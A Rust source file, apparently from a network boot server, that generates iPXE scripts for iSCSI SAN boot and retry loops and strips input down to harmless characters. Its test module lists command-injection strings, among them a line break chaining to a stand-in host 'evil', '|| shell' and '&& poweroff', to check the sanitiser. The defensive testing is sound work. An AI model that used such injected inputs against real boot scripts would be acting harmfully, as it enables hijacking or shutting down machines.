//! The iPXE script of a client. What is put in comes from us, not from the wire; it is cut down to
//! harmless characters all the same, because one line break would be a command.

use crate::export::Export;
use std::net::Ipv4Addr;
use types::{DhcpMode, MacAddr};

/// Where a machine finds our boot plane.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct Plane {
    /// Our address on the machine's network.
    pub server: Ipv4Addr,
    /// The TCP port of scripts and files.
    pub http_port: u16,
    /// The TCP port of disks.
    pub iscsi_port: u16,
    /// Whether computers here have their addresses from us, so that an address tells who asks.
    pub assigns_addresses: bool,
}

impl Plane {
    /// The usual ports on this address.
    pub fn at(server: Ipv4Addr, mode: DhcpMode) -> Self {
        Plane {
            server,
            http_port: 8080,
            iscsi_port: 3260,
            assigns_addresses: mode == DhcpMode::Full,
        }
    }

    /// Where a file is that firmware or iPXE fetches by HTTP.
    pub fn file_url(&self, name: &str) -> String {
        format!("http://{}:{}/f/{name}", self.server, self.http_port)
    }

    /// Where this machine's script is. An address, not a name: firmware may have no resolver.
    pub fn script_url(&self, mac: MacAddr) -> String {
        format!(
            "http://{}:{}/b/{}.ipxe",
            self.server,
            self.http_port,
            mac.hexhyp()
        )
    }
}

/// Seconds between two tries of a machine that has nothing to boot.
const RETRY_SECONDS: u32 = 10;

/// Boots the exported disk. The operating system finds target and credentials in the iBFT, which
/// iPXE writes for every disk that it describes.
pub fn san_boot(plane: &Plane, mac: MacAddr, name: &str, export: &Export) -> String {
    let mut s = format!(
        "#!ipxe\necho NSBoot: starting {} from its network disk\n",
        plain(name)
    );
    if let Some(initiator) = &export.initiator {
        s += &format!("set initiator-iqn {}\n", plain(initiator));
    }
    if let Some(chap) = &export.chap {
        s += &format!(
            "set username {}\nset password {}\n",
            plain(&chap.username),
            plain(chap.secret.expose())
        );
    }
    // RFC 4173 section 5: protocol empty (TCP), LUN in hexadecimal.
    s += &format!(
        "sanboot iscsi:{}::{}:{:x}:{} || goto failed\n:failed\necho NSBoot: the disk could not be started\n",
        plane.server,
        plane.iscsi_port,
        export.lun,
        plain(&export.target)
    );
    s + &retry(plane, mac)
}

/// Says why nothing is booted, and asks again after a while.
pub fn explain(plane: &Plane, mac: MacAddr, lines: &[String]) -> String {
    let mut s = String::from("#!ipxe\n");
    for line in lines {
        s += &format!("echo NSBoot: {}\n", plain(line));
    }
    s + &retry(plane, mac)
}

/// `--replace` ends this script first: a machine that waits for days must not nest one in another.
fn retry(plane: &Plane, mac: MacAddr) -> String {
    format!(
        ":again\nsleep {RETRY_SECONDS}\nchain --replace --autofree {} || goto again\n",
        plane.script_url(mac)
    )
}

/// Without line breaks, expansions (`${…}`) and operators (`||`, `&&`).
fn plain(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            'a'..='z' | 'A'..='Z' | '0'..='9' | ' ' | '.' | ',' | ':' | '-' | '_' | '\'' => c,
            _ => '?',
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    const PLANE: Plane = Plane {
        server: Ipv4Addr::new(10, 77, 0, 1),
        http_port: 8080,
        iscsi_port: 3260,
        assigns_addresses: true,
    };
    const MAC: MacAddr = MacAddr([0x52, 0x54, 0, 0x12, 0x34, 0x56]);

    #[test]
    fn the_script_says_why_and_asks_again() {
        assert_eq!(
            explain(
                &PLANE,
                MAC,
                &["52:54:00:12:34:56 is not one of our computers yet".into()]
            ),
            "#!ipxe\necho NSBoot: 52:54:00:12:34:56 is not one of our computers yet\n:again\nsleep 10\n\
             chain --replace --autofree http://10.77.0.1:8080/b/52-54-00-12-34-56.ipxe || goto again\n"
        );
    }

    #[test]
    fn no_text_becomes_a_command() {
        for evil in [
            "a\nchain http://evil/",
            "a\r\nshell",
            "${net0/mac}",
            "x || shell",
            "x && poweroff",
            "\u{1b}[2J",
            "x;y`z`",
            "a\u{2028}b",
        ] {
            let script = explain(&PLANE, MAC, &[evil.into()]);
            assert_eq!(script.lines().count(), 5, "{evil:?}");
            let line = script.lines().nth(1).unwrap_or_default();
            assert!(
                line.starts_with("echo NSBoot: ")
                    && !line.contains(['$', '|', '&', ';', '`', '\u{1b}']),
                "{line:?}"
            );
        }
    }
}
